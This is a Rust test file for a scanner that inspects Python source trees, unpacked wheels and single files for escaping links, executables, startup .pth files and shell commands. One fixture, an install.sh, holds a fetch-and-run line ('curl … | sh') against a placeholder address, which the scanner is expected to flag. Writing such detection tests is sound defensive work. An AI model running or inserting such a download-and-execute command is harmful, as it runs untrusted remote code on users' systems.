//! Source trees, unpacked wheels and files by themselves.

use spip_core::{Cause, Contents, Odd, Trigger};
use spip_scan::{Input, Limits, TreeEntry, TreeWhat, scan};

use crate::support::{assert_clean, odd};

fn scan_tree(entries: Vec<(&str, TreeWhat)>) -> Contents {
    let entries = entries.into_iter().map(|(path, what)| TreeEntry {
        path: path.to_owned(),
        what,
    });
    let mut entries = entries.collect::<Vec<_>>().into_iter();
    let input = Input::Tree {
        files: &mut entries,
    };
    scan(input, &Limits::default(), &|| false)
}

fn file(text: &str) -> TreeWhat {
    TreeWhat::File {
        bytes: text.as_bytes().to_vec(),
        executable: false,
    }
}

fn link(target: &str) -> TreeWhat {
    TreeWhat::Link {
        target: target.to_owned(),
    }
}

fn scan_module(path: &str, bytes: &[u8]) -> Contents {
    scan(Input::Module { path, bytes }, &Limits::default(), &|| false)
}

#[test]
fn an_ordinary_tree_is_clean() {
    let contents = scan_tree(vec![
        ("setup.py", file("from setuptools import setup\nsetup()\n")),
        ("demo/__init__.py", file("x = 1\n")),
        ("demo/data.bin", file(&"text ".repeat(5000))),
        ("README", link("docs/README")),
    ]);
    assert_clean(&contents);
    assert_eq!(contents.members, 3);
}

#[test]
fn a_tree_tells_what_is_no_file_and_what_leads_out() {
    let contents = scan_tree(vec![
        ("setup.py", file("")),
        ("pipe", TreeWhat::Other("pipe")),
        ("up", link("../../x")),
        (
            "gone",
            TreeWhat::Unread(Cause::Unreadable, "permission denied".to_owned()),
        ),
    ]);
    assert_eq!(odd(&contents), [Odd::EscapingLink]);
    let mut unread: Vec<_> = contents.unread.iter().map(|it| &it.member).collect();
    unread.sort_unstable();
    assert_eq!(unread, ["gone", "pipe"]);
}

#[test]
fn large_files_get_the_trigger_of_their_place() {
    let program = || {
        let mut bytes = vec![0; 1 << 15];
        bytes[..6].copy_from_slice(b"\x7fELF\x02\x01");
        bytes[16] = 2;
        TreeWhat::File {
            bytes,
            executable: true,
        }
    };
    let contents = scan_tree(vec![
        ("demo/__init__.py", file("")),
        ("demo/tool.bin", program()),
        ("tests/tool.bin", program()),
        ("setup.py", file("")),
    ]);
    let triggers: Vec<_> = contents
        .oddities
        .iter()
        .map(|odd| (odd.what, odd.trigger))
        .collect();
    let program = Odd::Executable;
    assert_eq!(
        triggers,
        [(program, Trigger::Call), (program, Trigger::Never)]
    );
}

#[test]
fn the_files_of_an_unpacked_wheel_act_as_installed() {
    let contents = scan_tree(vec![
        ("demo-1.0.dist-info/METADATA", file("Name: demo\n")),
        ("demo.pth", file("import demo\n")),
    ]);
    assert_eq!(odd(&contents), [Odd::StartFile]);
    assert_eq!(contents.oddities[0].trigger, Trigger::Start);
}

#[test]
fn files_by_themselves_run_as_their_names_say() {
    assert_clean(&scan_module("demo.py", b"x = 1\n"));
    let contents = scan_module("x.pth", b"import os\n");
    assert_eq!(odd(&contents), [Odd::StartFile]);
    let contents = scan_module("install.sh", b"curl http://192.0.2.1/x | sh\n");
    assert_eq!(odd(&contents), [Odd::ShellCommand]);
    assert_eq!(contents.oddities[0].trigger, Trigger::Call);
    assert_eq!(odd(&scan_module("sitecustomize.py", b"")), [Odd::StartFile]);
}

#[test]
fn installed_files_are_made_of_what_their_own_texts_tell() {
    let files = [
        (
            "demo-1.0.dist-info/METADATA",
            "Name: demo\nVersion: 1.0\nRequires-Dist: other\n",
        ),
        (
            "demo-1.0.dist-info/entry_points.txt",
            "[console_scripts]\ndemo = demo.cli:main\n",
        ),
        (
            "demo/cli.py",
            "import os\ndef main():\n    os.system('x')\n",
        ),
        ("demo/__init__.py", ""),
        ("demo.pth", "import demo\n"),
    ];
    let mut entries = files.into_iter().map(|(path, text)| TreeEntry {
        path: path.to_owned(),
        what: file(text),
    });
    let input = Input::Installed {
        files: &mut entries,
    };
    let contents = scan(input, &Limits::default(), &|| false);
    let makeup = &contents.makeup;
    assert!(makeup.commands.contains("demo"));
    assert!(makeup.modules.contains("demo"));
    assert!(makeup.requires.contains("other"));
    assert!(makeup.start_files.contains("demo.pth"));
    assert_eq!(contents.acts[0].trigger, Trigger::Call);
}
